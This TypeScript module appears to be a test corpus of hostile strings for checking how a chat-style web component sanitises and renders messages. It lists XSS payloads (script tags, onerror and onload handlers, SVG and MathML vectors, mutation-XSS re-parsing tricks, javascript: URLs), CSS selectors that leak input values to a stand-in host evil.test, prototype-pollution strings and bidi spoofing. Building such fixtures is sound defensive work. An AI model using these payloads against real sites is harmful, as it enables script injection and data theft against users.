/**
 * What somebody may write who wants more than to be read: by the way in which it would work.
 *
 * It does not know where it is shown. The invariant it keeps: whatever runs calls `hacked()` or
 * `alert()`, and whatever is loaded comes from `evil.test`, so that one look tells that nothing did.
 *
 * @module
 */

/** Texts that share a way. */
export interface HostileClass {
  readonly name: string;
  /** Where it has worked, and why. */
  readonly why: string;
  readonly texts: readonly string[];
}

const RUN = "hacked()";
/** The most that one message holds, on the wire and between two browsers. */
const MOST = 2_000;

/** Letters under so many marks that they stand out of any line. */
function zalgo(letters: string, marks: number): string {
  const above = String.fromCharCode(0x030d, 0x0311, 0x0357, 0x035b, 0x0346, 0x031a);
  const below = String.fromCharCode(0x0316, 0x0320, 0x0339, 0x0349, 0x0353, 0x0359);
  return [...letters].map((letter) => letter + (above + below).repeat(marks)).join("");
}

/** The corpus. */
export const HOSTILE_TEXTS: readonly HostileClass[] = [
  {
    name: "elements that run",
    why: "taken as HTML, each of these is a script or loads one",
    texts: [
      `<script>${RUN}</script>`,
      `<SCRIPT SRC=//evil.test/a.js></SCRIPT>`,
      `<script type=module>import("//evil.test/a.js")</script>`,
      `<scr<script>ipt>${RUN}</scr</script>ipt>`,
      `<script\x20type="text/javascript">${RUN};</script>`,
      `<script/random>${RUN}</script >`,
      `<iframe src="javascript:parent.${RUN}"></iframe>`,
      `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
      `<object data="javascript:${RUN}"></object>`,
      `<embed src="//evil.test/a.swf">`,
      `<base href="//evil.test/">`,
      `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
      `<link rel=stylesheet href=//evil.test/a.css>`,
      `<link rel=prefetch href=//evil.test/>`,
      `<template><script>${RUN}</script></template>`,
      `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
      `<random-chat server="//evil.test"></random-chat>`,
      `<portal src="//evil.test/"></portal>`,
    ],
  },
  {
    name: "handlers in attributes",
    why: "an element that never runs a script by itself, and a moment at which it does",
    texts: [
      `<img src=x onerror=${RUN}>`,
      `<img/src="x"/onerror="${RUN}">`,
      `<IMG SRC=x oNeRrOr=${RUN}>`,
      `<img src=x:x onerror\n=\n${RUN}>`,
      `<img src="//evil.test/a.png">`,
      `<img srcset="//evil.test/a.png 1x">`,
      `<picture><source srcset=//evil.test/a.webp><img></picture>`,
      `<body onload=${RUN}>`,
      `<body onpageshow=${RUN}>`,
      `<input autofocus onfocus=${RUN}>`,
      `<select autofocus onfocus=${RUN}></select>`,
      `<details open ontoggle=${RUN}>`,
      `<video><source onerror=${RUN}></video>`,
      `<video poster=//evil.test/a.png></video>`,
      `<audio src=x onerror=${RUN}></audio>`,
      `<marquee onstart=${RUN}>`,
      `<div onpointerenter=${RUN} style="position:fixed;inset:0">`,
      `<div style="animation:spin 1s" onanimationstart=${RUN}>`,
      `<a autofocus tabindex=1 onfocus=${RUN}></a>`,
      `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>`,
      `<form><button formaction="javascript:${RUN}">x</button></form>`,
      `" onmouseover="${RUN}" x="`,
      `' autofocus onfocus='${RUN}' x='`,
      `\` onfocus=${RUN} \``,
      `x" style="position:fixed;inset:0;background:red" y="`,
    ],
  },
  {
    name: "other namespaces",
    why: "SVG and MathML have scripts, links and animations of their own",
    texts: [
      `<svg onload=${RUN}>`,
      `<svg/onload=${RUN}//`,
      `<svg><script>${RUN}</script></svg>`,
      `<svg><script href="data:,${RUN}" /></svg>`,
      `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
      `<svg><set attributeName=href to="javascript:${RUN}"></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
      `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
      `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
      `<svg><image href="//evil.test/a.png"></svg>`,
      `<math href="javascript:${RUN}">x</math>`,
      `<math><maction actiontype="statusline#http://evil.test/">x</maction></math>`,
      `<math><mtext></p><img src=x onerror=${RUN}></mtext></math>`,
    ],
  },
  {
    name: "what changes when it is parsed again",
    why: "harmless when it is read once, a script when what was read is written and read anew",
    texts: [
      `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
      `<style><style/><img src=x onerror=${RUN}>`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
      `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
      `<!--><img src=x onerror=${RUN}>-->`,
      `<![CDATA[><img src=x onerror=${RUN}>]]>`,
      `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
      `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
      `<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
      `<title></title><img src=x onerror=${RUN}></title>`,
      `<plaintext><img src=x onerror=${RUN}>`,
      `</p></bdi></div></random-chat><img src=x onerror=${RUN}>`,
      `]]></script></style></textarea></title><svg onload=${RUN}>`,
    ],
  },
  {
    name: "addresses that are scripts",
    why: "an address becomes a link, and a link of the wrong kind runs when it is followed",
    texts: [
      `javascript:${RUN}`,
      `JaVaScRiPt:${RUN}`,
      `java\tscript:${RUN}`,
      `\u0001javascript:${RUN}`,
      `javascript://www.example.org/%0a${RUN}`,
      `javascript:https://www.example.org/`,
      `data:text/html,<script>${RUN}</script>`,
      `data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
      `vbscript:${RUN}`,
      `blob:https://www.example.org/1`,
      `file:///etc/passwd`,
      `view-source:https://www.example.org/`,
      `https://www.example.org/"onmouseover="${RUN}`,
      `https://www.example.org/'><img src=x onerror=${RUN}>`,
      `https://www.example.org/\`onfocus=${RUN}`,
      `https://bank.example@evil.test/`,
      `https://bank.example%2f@evil.test/`,
      `www.evil.test\\@www.example.org/<svg onload=${RUN}>`,
      `https://ехаmple.org/ is written in two scripts`,
      `https://www.example.org/\u202egpj.exe`,
      `[a link](javascript:${RUN})`,
      `<https://www.example.org/ onclick=${RUN}>`,
      `http://[::1]:9/${RUN}`,
      `https://${"a".repeat(300)}.test/`,
    ],
  },
  {
    name: "the marks of templates",
    why: "whatever fills templates may fill these as well, or take them for its own places",
    texts: [
      "${hacked()}",
      "`${hacked()}`",
      "{{hacked()}}",
      "{{constructor.constructor('hacked()')()}}",
      "<%= hacked() %>",
      "#{hacked()}",
      "<!--lit-part--><img src=x onerror=hacked()><!--/lit-part-->",
      "<!--?lit$123456789$--><img src=x onerror=hacked()>",
      "<x-y $lit$=hacked() .innerHTML=hacked() @click=hacked()></x-y>",
      "<slot name=x onslotchange=hacked()></slot>",
      `{"_$litType$":1,"strings":["<img src=x onerror=hacked()>"],"values":[]}`,
      `{"__proto__":{"innerHTML":"<img src=x onerror=hacked()>"}}`,
      "__proto__",
      "constructor",
      "toString",
    ],
  },
  {
    name: "entities and encodings",
    why: "decoded once too often these are the above again",
    texts: [
      `&lt;script&gt;${RUN}&lt;/script&gt;`,
      `&#60;img src=x onerror=${RUN}&#62;`,
      `&#x3c;svg onload=${RUN}&#x3e;`,
      `&amp;lt;script&amp;gt;${RUN}`,
      `%3Cscript%3E${RUN}%3C/script%3E`,
      `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
      `\\x3cimg src=x onerror=${RUN}\\x3e`,
      `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
      `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
      `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
      `<\u0000script>${RUN}</script>`,
      `<img src=x onerror\u000c=${RUN}>`,
      `<img\u2028src=x\u2029onerror=${RUN}>`,
      `<i\u200bmg src=x onerror=${RUN}>`,
      `\ufeff<svg onload=${RUN}>`,
    ],
  },
  {
    name: "styles",
    why: "a style covers the page, loads, or reads it letter by letter",
    texts: [
      `<style>*{display:none!important}</style>`,
      `<style>@import "//evil.test/a.css";</style>`,
      `<style>:host{position:fixed;inset:0}</style>`,
      `<p style="background:url(//evil.test/a.png)">`,
      `<style>input[value^=a]{background:url(//evil.test/a)}</style>`,
      `}*{display:none}`,
      `";}body{background:red}/*`,
      `expression(${RUN})`,
      `url(javascript:${RUN})`,
    ],
  },
  {
    name: "directions",
    why: "a text that turns around what stands beside it says what nobody wrote",
    texts: [
      "\u202egnirts a si siht",
      "\u202e\u202e\u202e\u202e deep",
      "\u2067\u2067\u2067 never closed",
      "\u2069\u2069\u2069\u202e closed more often than opened",
      "\u202d\u202e\u202c\u2066\u2067\u2068\u2069",
      "photo_\u202egpj.exe",
      "\u061c\u200f\u200e marks alone \u200f",
      "שלום \u202e world \u202c مرحبا 123 <b>x</b>",
    ],
  },
  {
    name: "letters that are no letters",
    why: "what has no width, no end or a height of its own takes room that is not its own",
    texts: [
      zalgo("zalgo", 20),
      zalgo("a", 160),
      "\u0489".repeat(500),
      "\u200b\u200c\u200d\u2060",
      "\u00ad".repeat(MOST),
      "﷽".repeat(200),
      "\ud83d",
      "\udc00 alone \ud83d",
      "\ufffe\uffff",
      "\u0000",
      "\u0007\u001b[31m\u001b]0;title\u0007",
      "👨‍👩‍👧‍👦".repeat(100),
      "🏳️‍🌈".repeat(2),
      "\u{e0001}\u{e0041}\u{e007f}",
      "ੴ௵𒐫꧅".repeat(100),
    ],
  },
  {
    name: "sizes",
    why: "a text without a place to break, or with nothing but breaks, pushes the rest away",
    texts: [
      "W".repeat(MOST),
      "\u00a0".repeat(MOST - 1) + "x",
      "\n".repeat(MOST - 1) + "x",
      "\t".repeat(MOST - 1) + "x",
      "<".repeat(MOST),
      "&".repeat(MOST),
      `<b>${"<i>".repeat(600)}deep`,
      `https://www.example.org/${"a".repeat(1_900)}`,
      "漢".repeat(MOST),
    ],
  },
];

/** All of them, in order. */
export const ALL_HOSTILE_TEXTS: readonly string[] = HOSTILE_TEXTS.flatMap(({ texts }) => texts);
